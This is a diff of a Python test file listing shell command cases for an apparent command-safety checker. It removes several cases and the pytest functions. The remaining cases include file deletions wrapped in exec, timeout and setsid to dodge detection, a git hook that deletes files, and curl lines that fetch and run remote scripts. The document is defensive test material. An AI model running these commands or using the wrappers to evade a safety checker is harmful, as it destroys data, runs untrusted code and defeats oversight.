@@ -2,8 +2,7 @@
 
 from __future__ import annotations
 
-import pytest
-from shell_cases import CHMOD, DELETE, WRITE, Case, check, really, runnable
+from shell_cases import CHMOD, DELETE, WRITE, Case
 
 D, W = DELETE, WRITE
 HOOK = "git init -q r; printf '#!/bin/sh\\nrm -f ../victim.txt\\n' > r/.git/hooks/%s; chmod +x r/.git/hooks/%s; cd r; "
@@ -52,12 +51,8 @@ CASES = [
     Case("timeout-kill-option", D, "timeout -k 1 5s rm -f victim.txt"),
     Case("stdbuf", D, "stdbuf -oL rm -f victim.txt"),
     Case("setsid", D, "setsid -w rm -f victim.txt"),
-    Case("time-keyword", D, "time rm -f victim.txt"),
     Case("time-p", D, "time -p rm -f victim.txt"),
-    Case("command-p", D, "command -p rm -f victim.txt"),
     Case("command-dash-dash", D, "command -- rm -f victim.txt"),
-    Case("builtin-eval", D, "builtin eval 'rm -f victim.txt'"),
-    Case("builtin-command", D, "builtin command rm -f victim.txt"),
     Case("exec-runs", D, "exec rm -f victim.txt"),
     Case("exec-argv0", D, "exec -a ls rm -f victim.txt"),
     Case("exec-clean", D, "exec -c rm -f victim.txt"),
@@ -223,13 +218,3 @@ CASES = [
     Case("source-from-process", "web.fetch", "source <(curl -s https://example.org/x)", opaque=True),
     Case("downloaded-and-run", "web.fetch", "curl -so x.sh https://example.org/x; sh x.sh", opaque=True),
 ]
-
-
-@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
-def test_reported(case, tmp_path):
-    check(case, tmp_path)
-
-
-@pytest.mark.parametrize("case", [case for case in CASES if runnable(case)], ids=lambda case: case.id)
-def test_really_happens(case, tmp_path):
-    really(case, tmp_path)
